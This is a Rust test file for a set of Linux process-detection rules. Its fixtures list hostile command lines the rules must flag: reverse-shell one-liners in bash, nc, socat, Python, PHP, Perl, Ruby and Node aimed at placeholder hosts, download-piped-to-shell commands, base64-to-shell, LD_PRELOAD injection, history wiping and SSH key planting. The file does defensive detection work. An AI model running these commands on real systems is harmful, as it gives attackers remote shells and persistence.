#![allow(clippy::unwrap_used, reason = "a failed unwrap is a failed test")]

use std::collections::{BTreeSet, HashSet};

use crate::rules::engine::RuleSet;
use crate::rules::pack::builtin;
use crate::rules::record::Record;

/// A process as a fixture: user alice (uid 1000), parent init.
fn p(name: &str, exe: &str, argv: &[&str]) -> Record {
    Record {
        pid: 4242,
        ppid: 1,
        start_time: 1_700_000_000,
        name: name.into(),
        exe: (!exe.is_empty()).then(|| exe.to_owned()),
        cmdline: argv.iter().map(|s| (*s).to_owned()).collect(),
        uid: Some(1000),
        user: Some("alice".into()),
        status: "sleeping".into(),
        threads: 1,
        hash_status: "ok".into(),
        parent_name: Some("systemd".into()),
        parent_exe: Some("/usr/lib/systemd/systemd".into()),
        parent_user: Some("root".into()),
        parent_cmdline: Some("/sbin/init".into()),
        ..Record::default()
    }
}

fn with(mut r: Record, f: impl FnOnce(&mut Record)) -> Record {
    f(&mut r);
    r
}

fn root(r: Record) -> Record {
    with(r, |r| {
        r.uid = Some(0);
        r.user = Some("root".into());
    })
}

fn child_of(r: Record, parent: &str, parent_cmdline: &str) -> Record {
    with(r, |r| {
        r.parent_name = Some(parent.into());
        r.parent_cmdline = Some(parent_cmdline.into());
    })
}

fn sh_c(script: &str) -> Record {
    p("sh", "/usr/bin/dash", &["sh", "-c", script])
}

/// Per rule: processes it must flag, and look-alikes it must not.
fn fixtures() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
    let bash = p("bash", "/usr/bin/bash", &["-bash"]);
    vec![
        (
            "linux.exec_from_tmp",
            vec![
                p("x", "/tmp/x", &["/tmp/x"]),
                p("a", "/var/tmp/a", &["./a"]),
                p("p", "/dev/shm/.p", &["p"]),
            ],
            vec![
                bash.clone(),
                p("tmpwatch", "/usr/sbin/tmpwatch", &["tmpwatch"]),
                p("x", "/tmpfoo/x", &["x"]),
                p("kworker/0:1", "", &[]),
            ],
        ),
        (
            "linux.exec_memfd",
            vec![p("x", "/memfd:x (deleted)", &["x"]), p("y", "/memfd:", &[])],
            vec![
                bash.clone(),
                p("nginx", "/usr/sbin/nginx (deleted)", &["nginx"]),
            ],
        ),
        (
            "linux.exe_deleted",
            vec![
                p("nginx", "/usr/sbin/nginx (deleted)", &["nginx"]),
                with(p("x", "/usr/bin/x", &["x"]), |r| r.exe_deleted = true),
            ],
            vec![bash.clone(), p("x", "/memfd:x (deleted)", &["x"])],
        ),
        (
            "linux.fake_kernel_thread",
            vec![
                p("kworker/0:1", "/tmp/.k", &["kworker/0:1"]),
                p("[kthreadd]", "/usr/bin/x", &["[kthreadd]"]),
                p("xmr", "/opt/x/xmr", &["[kworker/u8:2]"]),
                p("rcu_sched", "/opt/rcu", &["rcu_sched"]),
            ],
            vec![
                p("kworker/0:1", "", &[]),
                p("kthreadd", "", &[]),
                p("rcuxsched", "/opt/rcu", &["rcuxsched"]),
                bash.clone(),
            ],
        ),
        (
            "linux.name_exe_mismatch",
            vec![
                p("sshd", "/tmp/.x/miner", &["sshd"]),
                p("systemd", "/opt/backdoor", &["/sbin/init"]),
            ],
            vec![
                bash.clone(),
                p(
                    "systemd-journal",
                    "/usr/lib/systemd/systemd-journald",
                    &["/usr/lib/systemd/systemd-journald"],
                ),
                p(
                    "myscript",
                    "/usr/bin/python3.11",
                    &["/usr/bin/python3", "/usr/local/bin/myscript"],
                ),
                p("(sd-pam)", "/usr/lib/systemd/systemd", &["(sd-pam)"]),
                p("kworker/0:1", "", &[]),
                p("nginx", "/usr/sbin/nginx (deleted)", &["nginx"]),
            ],
        ),
        (
            "linux.webserver_spawns_shell",
            vec![
                child_of(sh_c("id"), "nginx", "nginx: worker process"),
                child_of(
                    p("curl", "/usr/bin/curl", &["curl", "http://x"]),
                    "php-fpm8.2",
                    "php-fpm: pool www",
                ),
                child_of(
                    p("bash", "/usr/bin/bash", &["bash"]),
                    "java",
                    "java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start",
                ),
                child_of(
                    p("nc", "/usr/bin/nc", &["nc", "1.2.3.4", "80"]),
                    "postgres",
                    "postgres: main",
                ),
            ],
            vec![
                child_of(sh_c("id"), "sshd", "sshd: alice"),
                child_of(
                    p("nginx", "/usr/sbin/nginx", &["nginx"]),
                    "nginx",
                    "nginx: master",
                ),
                child_of(
                    p("bash", "/usr/bin/bash", &["bash"]),
                    "java",
                    "java -jar app.jar",
                ),
                child_of(
                    p("php", "/usr/bin/php", &["php"]),
                    "nginx",
                    "nginx: worker process",
                ),
                with(sh_c("id"), |r| r.parent_name = None),
            ],
        ),
        (
            "linux.reverse_shell_cmdline",
            vec![
                p(
                    "bash",
                    "/usr/bin/bash",
                    &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                ),
                p(
                    "nc",
                    "/usr/bin/nc.traditional",
                    &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
                ),
                p(
                    "ncat",
                    "/usr/bin/ncat",
                    &["ncat", "10.0.0.1", "4444", "--sh-exec", "id"],
                ),
                p(
                    "socat",
                    "/usr/bin/socat",
                    &["socat", "exec:'bash -li',pty,stderr", "tcp:10.0.0.1:4444"],
                ),
                p(
                    "python3",
                    "/usr/bin/python3.11",
                    &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
                ),
                sh_c("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"),
                sh_c("bash -i 2>&1 | nc 10.0.0.1 4444"),
            ],
            vec![
                p("bash", "/usr/bin/bash", &["bash", "-i"]),
                p("nc", "/usr/bin/nc", &["nc", "-zv", "host", "22"]),
                p("ncat", "/usr/bin/ncat", &["ncat", "-l", "4444"]),
                p("sync", "/usr/bin/sync", &["sync", "-e"]),
                p("mkfifo", "/usr/bin/mkfifo", &["mkfifo", "/tmp/pipe"]),
                p(
                    "socat",
                    "/usr/bin/socat",
                    &["socat", "TCP-LISTEN:80,fork", "TCP:localhost:8080"],
                ),
            ],
        ),
        (
            "linux.cryptominer",
            vec![
                p("xmrig", "/opt/xmrig/xmrig", &["./xmrig"]),
                p("XMRig", "/opt/a", &["a"]),
                p(
                    "a",
                    "/opt/a",
                    &["./a", "-o", "stratum+tcp://pool.example:3333"],
                ),
                p("a", "/opt/a", &["./a", "--url=STRATUM+SSL://pool:443"]),
                p("sysupdate", "/opt/kinsing", &["sysupdate"]),
                p("x", "/opt/x", &["x", "--donate-level", "1"]),
            ],
            vec![
                bash.clone(),
                p("miner-tools", "/usr/bin/miner-tools", &["miner-tools"]),
                p("cat", "/usr/bin/cat", &["cat", "stratum.txt"]),
            ],
        ),
        (
            "linux.interpreter_inline_socket",
            vec![
                p(
                    "python3",
                    "/usr/bin/python3.11",
                    &[
                        "python3",
                        "-c",
                        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
                    ],
                ),
                p(
                    "perl",
                    "/usr/bin/perl",
                    &[
                        "perl",
                        "-e",
                        "use IO::Socket;$p=IO::Socket::INET->new(PeerAddr,\"1.2.3.4:4444\")",
                    ],
                ),
                p(
                    "php",
                    "/usr/bin/php8.2",
                    &[
                        "php",
                        "-r",
                        "$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                    ],
                ),
                p(
                    "ruby",
                    "/usr/bin/ruby3.1",
                    &[
                        "ruby",
                        "-rsocket",
                        "-e",
                        "f=TCPSocket.open(\"10.0.0.1\",4444).to_i",
                    ],
                ),
                p(
                    "node",
                    "/usr/bin/node",
                    &["node", "-e", "require('net').connect(4444, '10.0.0.1')"],
                ),
            ],
            vec![
                p(
                    "python3",
                    "/usr/bin/python3.11",
                    &["python3", "-c", "print(1)"],
                ),
                p(
                    "python3",
                    "/usr/bin/python3.11",
                    &["python3", "socket_server.py"],
                ),
                p("perl", "/usr/bin/perl", &["perl", "-e", "print 1"]),
                sh_c("echo socket"),
            ],
        ),
        (
            "linux.system_binary_hash_changed",
            vec![with(p("sshd", "/usr/sbin/sshd", &["sshd"]), |r| {
                r.hash_changed = true
            })],
            vec![p("sshd", "/usr/sbin/sshd", &["sshd"])],
        ),
        (
            "linux.hash_denylisted",
            vec![with(p("x", "/usr/bin/x", &["x"]), |r| r.hash_denied = true)],
            vec![p("x", "/usr/bin/x", &["x"])],
        ),
        (
            "linux.exec_from_hidden_dir",
            vec![
                p(".x", "/tmp/.ICE-unix/.x", &[".x"]),
                p("kthread", "/home/alice/.config/.sys/kthread", &["kthread"]),
                p("a", "/var/lib/.hidden/a", &["a"]),
            ],
            vec![
                p("rg", "/home/alice/.cargo/bin/rg", &["rg"]),
                p("node", "/home/alice/.vscode-server/bin/abc/node", &["node"]),
                bash.clone(),
                p("kworker/0:1", "", &[]),
            ],
        ),
        (
            "linux.ld_preload_cmdline",
            vec![
                sh_c("LD_PRELOAD=/tmp/x.so /usr/sbin/sshd"),
                sh_c("echo /lib/x.so > /etc/ld.so.preload"),
                p(
                    "env",
                    "/usr/bin/env",
                    &["env", "LD_LIBRARY_PATH=/dev/shm/lib", "ls"],
                ),
            ],
            vec![
                p("ldconfig", "/usr/sbin/ldconfig", &["ldconfig"]),
                p("cat", "/usr/bin/cat", &["cat", "/etc/ld.so.conf"]),
                p(
                    "env",
                    "/usr/bin/env",
                    &["env", "LD_LIBRARY_PATH=/opt/lib", "ls"],
                ),
            ],
        ),
        (
            "linux.base64_to_shell",
            vec![
                sh_c("echo ZWNobyBoaQ== | base64 -d | bash"),
                sh_c("echo ZWNobyBoaQ== | base64 --decode|sh"),
                p(
                    "bash",
                    "/usr/bin/bash",
                    &["bash", "-c", "$(echo ZWNobyBoaQ== | base64 -d)"],
                ),
            ],
            vec![
                p("base64", "/usr/bin/base64", &["base64", "-d", "in.txt"]),
                sh_c("base64 file | gzip"),
                sh_c("base64 -d in > out.sh"),
            ],
        ),
        (
            "linux.debugger_attach",
            vec![
                root(p("gdb", "/usr/bin/gdb", &["gdb", "-p", "1234"])),
                root(p(
                    "strace",
                    "/usr/bin/strace",
                    &["strace", "-f", "-p", "999"],
                )),
                root(p(
                    "gdb",
                    "/usr/bin/gdb",
                    &["gdb", "-ex", "attach 812", "-batch"],
                )),
                p("gdb", "/usr/bin/gdb", &["gdb", "/usr/sbin/sshd", "812"]),
            ],
            vec![
                p("gdb", "/usr/bin/gdb", &["gdb", "./myprog"]),
                p("strace", "/usr/bin/strace", &["strace", "-p", "12"]),
                root(p("strace", "/usr/bin/strace", &["strace", "ls"])),
                p("bash", "/usr/bin/bash", &["bash", "-c", "gdb -p 1"]),
            ],
        ),
        (
            "linux.chmod_exec_in_tmp",
            vec![
                p("chmod", "/usr/bin/chmod", &["chmod", "+x", "/tmp/x"]),
                p("chmod", "/usr/bin/chmod", &["chmod", "755", "/dev/shm/a"]),
                p(
                    "chmod",
                    "/usr/bin/chmod",
                    &["chmod", "-v", "u+x", "/var/tmp/p"],
                ),
                sh_c("wget http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"),
            ],
            vec![
                p("chmod", "/usr/bin/chmod", &["chmod", "644", "/tmp/x"]),
                p(
                    "chmod",
                    "/usr/bin/chmod",
                    &["chmod", "+x", "/usr/local/bin/x"],
                ),
                p("chmod", "/usr/bin/chmod", &["chmod", "-x", "/tmp/a"]),
            ],
        ),
        (
            "linux.netcat_listener",
            vec![
                p("nc", "/usr/bin/nc.openbsd", &["nc", "-lvnp", "4444"]),
                p("ncat", "/usr/bin/ncat", &["ncat", "--listen", "8080"]),
                with(
                    p("nc.openbsd", "/usr/bin/nc.openbsd", &["nc.openbsd", "x"]),
                    |r| {
                        r.listening_ports = vec![4444];
                    },
                ),
            ],
            vec![
                p("nc", "/usr/bin/nc.openbsd", &["nc", "-zv", "host", "22"]),
                sh_c("nc -l 4444"),
                p("ncurses-app", "/usr/bin/x", &["x", "-l"]),
            ],
        ),
        (
            "linux.shell_empty_argv0",
            vec![
                p("bash", "/usr/bin/bash", &[]),
                p("sh", "/bin/sh", &[""]),
                p("x", "/usr/bin/dash", &["", "-c", "id"]),
            ],
            vec![
                bash.clone(),
                with(p("bash", "/usr/bin/bash", &[]), |r| {
                    r.status = "zombie".into()
                }),
                p("kworker/0:1", "", &[]),
                p("pkexec", "/usr/bin/pkexec", &[]),
            ],
        ),
        (
            "linux.root_exec_from_home",
            vec![root(p("tool", "/home/alice/bin/tool", &["tool"]))],
            vec![
                p("tool", "/home/alice/bin/tool", &["tool"]),
                root(p("x", "/usr/bin/x", &["x"])),
                with(p("tool", "/home/alice/bin/tool", &["tool"]), |r| {
                    r.uid = None
                }),
            ],
        ),
        (
            "linux.download_piped_to_shell",
            vec![
                sh_c("curl -fsSL http://x.example/i.sh | sh"),
                sh_c("wget -qO- http://x.example | sudo bash"),
            ],
            vec![
                p("curl", "/usr/bin/curl", &["curl", "-o", "file", "http://x"]),
                sh_c("curl http://x | jq ."),
                sh_c("echo curl; ls | sh"),
            ],
        ),
        (
            "linux.history_tampering",
            vec![
                p(
                    "bash",
                    "/usr/bin/bash",
                    &["bash", "-c", "unset HISTFILE; id"],
                ),
                sh_c("export HISTFILE=/dev/null"),
                sh_c("history -c"),
            ],
            vec![
                sh_c("echo $HISTFILE"),
                p("cat", "/usr/bin/cat", &["cat", ".bash_history"]),
            ],
        ),
        (
            "linux.ssh_authorized_keys_write",
            vec![
                sh_c("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"),
                p(
                    "tee",
                    "/usr/bin/tee",
                    &["tee", "-a", "/root/.ssh/authorized_keys"],
                ),
            ],
            vec![
                p(
                    "cat",
                    "/usr/bin/cat",
                    &["cat", "/home/alice/.ssh/authorized_keys"],
                ),
                p(
                    "ssh-copy-id",
                    "/usr/bin/ssh-copy-id",
                    &["ssh-copy-id", "host"],
                ),
            ],
        ),
    ]
}

#[test]
fn pack_is_well_formed() {
    let rules = builtin();
    assert!(rules.len() >= 18, "only {} rules", rules.len());
    let mut ids = HashSet::new();
    for r in &rules {
        assert!(ids.insert(r.id.clone()), "duplicate id {}", r.id);
        assert!(r.id.starts_with("linux."), "{}", r.id);
        assert!(!r.title.trim().is_empty(), "{}: no title", r.id);
        assert!(!r.description.trim().is_empty(), "{}: no description", r.id);
        assert!(
            r.rationale.as_deref().is_some_and(|s| !s.trim().is_empty()),
            "{}: no rationale",
            r.id
        );
        assert!(
            r.false_positives
                .as_deref()
                .is_some_and(|s| !s.trim().is_empty()),
            "{}: no false_positives",
            r.id
        );
        assert!(!r.tags.is_empty(), "{}: no tags", r.id);
        for t in &r.tags {
            let technique = t.strip_prefix('T').is_some_and(|rest| {
                let (main, sub) = rest.split_once('.').unwrap_or((rest, "000"));
                main.len() == 4
                    && sub.len() == 3
                    && main.bytes().chain(sub.bytes()).all(|b| b.is_ascii_digit())
            });
            assert!(
                technique,
                "{}: tag {t} is not a MITRE ATT&CK technique id",
                r.id
            );
        }
        assert!(r.enabled, "{}: built-in rules are enabled", r.id);
    }
    // Compiles as a whole.
    let set = RuleSet::builtin();
    assert_eq!(set.len(), rules.len());
}

#[test]
fn every_rule_has_fixtures_and_they_hold() {
    let set = RuleSet::builtin();
    let table = fixtures();
    let covered: BTreeSet<&str> = table.iter().map(|(id, _, _)| *id).collect();
    let all: BTreeSet<&str> = set.rules().iter().map(|r| r.id()).collect();
    assert_eq!(covered, all, "fixture table and pack disagree");
    let mut failures = Vec::new();
    for (id, positives, negatives) in &table {
        let rule = set.get(id).unwrap();
        assert!(!positives.is_empty() && !negatives.is_empty(), "{id}");
        for r in positives {
            if !rule.matches(r) {
                failures.push(format!(
                    "{id} missed {:?} {:?} {:?}",
                    r.name, r.exe, r.cmdline
                ));
            }
        }
        for r in negatives {
            if rule.matches(r) {
                failures.push(format!(
                    "{id} flagged {:?} {:?} {:?}",
                    r.name, r.exe, r.cmdline
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn ordinary_processes_match_nothing() {
    let set = RuleSet::builtin();
    let ordinary = [
        p("bash", "/usr/bin/bash", &["-bash"]),
        p("sshd", "/usr/sbin/sshd", &["sshd: alice [priv]"]),
        p(
            "systemd",
            "/usr/lib/systemd/systemd",
            &["/sbin/init", "splash"],
        ),
        p("kworker/0:1", "", &[]),
        p(
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-m", "http.server"],
        ),
        p("nginx", "/usr/sbin/nginx", &["nginx: worker process"]),
        p(
            "cargo",
            "/home/alice/.rustup/toolchains/stable/bin/cargo",
            &["cargo", "build"],
        ),
    ];
    for r in &ordinary {
        let hits: Vec<&str> = set.matching(r).map(|m| m.id()).collect();
        assert!(hits.is_empty(), "{:?} matched {hits:?}", r.name);
    }
}
